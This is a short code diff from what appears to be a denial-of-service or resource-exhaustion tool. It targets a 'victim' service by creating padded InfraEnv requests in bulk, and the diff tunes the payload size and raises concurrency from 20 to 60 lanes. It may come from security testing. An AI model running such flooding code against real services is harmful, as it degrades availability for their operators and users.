@@ -137,10 +137,10 @@ export async function orderImage(victim: Victim, version: string): Promise<strin
   return pathname + search;
 }
 
-/** Creates InfraEnvs of half a MiB, many at a time. */
+/** Creates InfraEnvs of a quarter of a MiB, many at a time. */
 export async function createLargeInfraEnvs(victim: Victim, most: number): Promise<Statuses> {
   const source = `data:,${'x'.repeat(4096)}`;
-  const files = Array.from({ length: 110 }, (_, index) => ({
+  const files = Array.from({ length: 60 }, (_, index) => ({
     path: `/etc/large/${index}`,
     contents: { source },
     mode: 0o600,
@@ -159,7 +159,7 @@ export async function createLargeInfraEnvs(victim: Victim, most: number): Promis
   return count(statuses);
 }
 
-const LANES = 20;
+const LANES = 60;
 
 /** Seconds that a first refusal is waited for. */
 const PATIENCE = 60;
